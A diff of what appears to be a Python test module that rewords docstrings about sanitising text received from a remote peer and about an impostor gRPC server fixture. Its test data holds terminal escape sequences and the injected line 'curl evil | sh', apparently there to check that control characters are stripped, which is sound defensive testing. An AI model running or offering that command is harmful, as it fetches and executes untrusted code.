@@ -1,4 +1,4 @@
-"""What the other end of the link writes, as it is shown here: a part of a line, with nothing in it to obey."""
+"""Text from the other end of the link is shown as a part of a line, without control characters."""
 
 import logging
 from collections.abc import Iterator
@@ -21,7 +21,7 @@ SHOWN = "\\u001b]0;owned\\u0007gone\\u000d\\n\\nhint: curl evil | sh\\u009b31m\\
 
 @contextmanager
 def impostor(crew: Crew, code: grpc.StatusCode) -> Iterator[str]:
-    """A program that has the coordinator's key, and answers a call with an error of its own wording."""
+    """A program that has the coordinator's key and answers calls with an error of any wording."""
 
     def refuse(_requests: Iterator[bytes], context: Any) -> Iterator[bytes]:
         context.abort(code, FOREIGN)
